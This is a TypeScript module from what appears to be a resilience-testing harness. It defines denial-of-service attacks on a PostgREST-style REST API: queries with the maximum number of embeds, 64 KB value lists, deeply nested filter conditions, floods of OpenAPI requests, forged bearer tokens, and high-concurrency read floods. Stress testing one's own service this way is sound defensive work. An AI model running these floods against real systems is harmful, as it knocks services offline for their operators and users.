/** Queries that are expensive to parse and to plan. */
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

/** Below the length limit of URLs. */
const URL_BYTES = 63_000;

/** Sends selects with many embeds. */
export const manyEmbeds: Attack = {
  name: 'data/many-embeds',
  description: '120 different selects of 100 embeds each (the maximum), anonymous, 20 at once',
  cost: 'event loop: parsing and planning; memory of plans and prepared statements in PostgreSQL',
  run: (context) =>
    get(context, 20, (index) => {
      const variant = index % 120;
      const embeds = Array.from({ length: 100 }, (_, number) => `e${variant}x${number}:abuse_hubs(id)`);
      return `/rest/v1/abuse_nodes?limit=1&select=id,${embeds.join(',')}`;
    }),
};

/** Filters by long lists of values. */
export const longLists: Attack = {
  name: 'data/long-lists',
  description: 'in.() lists of 64 KB, different each time, 20 at once',
  cost: 'event loop: parsing 13,000 values; planning in PostgreSQL',
  run: (context) =>
    get(context, 20, (index) => {
      const values: number[] = [];
      for (let value = index; values.length < (URL_BYTES - 100) / 7; value += 1) values.push(100_000 + value);
      return `/rest/v1/abuse_big?select=id&id=in.(${values.join(',')})`;
    }),
};

/** Filters by nested conditions. */
export const nestedConditions: Attack = {
  name: 'data/nested-conditions',
  description: 'or(and(or(…))) and paths into JSON of 64 KB, 20 at once',
  cost: 'event loop and stack: parsing and planning nested conditions',
  run: (context) => {
    const depth = Math.floor(URL_BYTES / 30);
    const deep = `${'or(id.eq.1,and(id.gt.2,'.repeat(depth)}id.eq.3${'))'.repeat(depth)}`;
    const wide = Array.from({ length: URL_BYTES / 13 }, (_, index) => `id.eq.${index}`).join(',');
    const path = '->a'.repeat(URL_BYTES / 4);
    const queries = [`select=id&or=(${deep})`, `select=id&or=(${wide})`, `select=x:tags${path}`];
    return get(context, 20, (index) => `/rest/v1/abuse_big?${queries[index % queries.length]}`);
  },
};

/** Requests the OpenAPI document of the whole schema. */
export const openApi: Attack = {
  name: 'data/openapi',
  description: 'GET /rest/v1/, 50 at once, anonymous and as an account',
  cost: 'event loop: a document of the whole schema per request',
  run: (context) =>
    flood(context, {
      sockets: 50,
      request: (index) => ({
        path: '/rest/v1/',
        headers: apiHeaders(context, index % 2 === 0 ? undefined : context.accounts[0]?.accessToken),
      }),
    }),
};

/** Sends malformed tokens. */
export const badTokens: Attack = {
  name: 'data/bad-tokens',
  description: 'invented bearer tokens and API keys, different each time, 50 at once',
  cost: 'a signature check per request',
  run: (context) => {
    const [head, body] = context.anonKey.split('.');
    return flood(context, {
      sockets: 50,
      request: (index) => {
        const token = head && body ? `${head}.${body}.${String(index).padStart(43, 'A')}` : `wrong-${index}`;
        const apikey = index % 2 === 0 ? context.anonKey : token;
        return { path: '/rest/v1/abuse_items', headers: { apikey, authorization: `Bearer ${token}` } };
      },
    });
  },
};

/** Sends ordinary reads at full speed. */
export const readFlood: Attack = {
  name: 'data/reads',
  description: 'plain reads of one row, anonymous, 100 at once',
  cost: 'the pool of connections and the event loop',
  run: (context) => get(context, 100, (index) => `/rest/v1/abuse_big?select=id&id=eq.${index % 20_000}`),
};

function get(context: AttackContext, sockets: number, path: (index: number) => string): Promise<void> {
  const { authorization = '' } = apiHeaders(context);
  return flood(context, {
    sockets,
    request: (index) => ({ path: path(index), headers: { apikey: context.anonKey, authorization } }),
  });
}
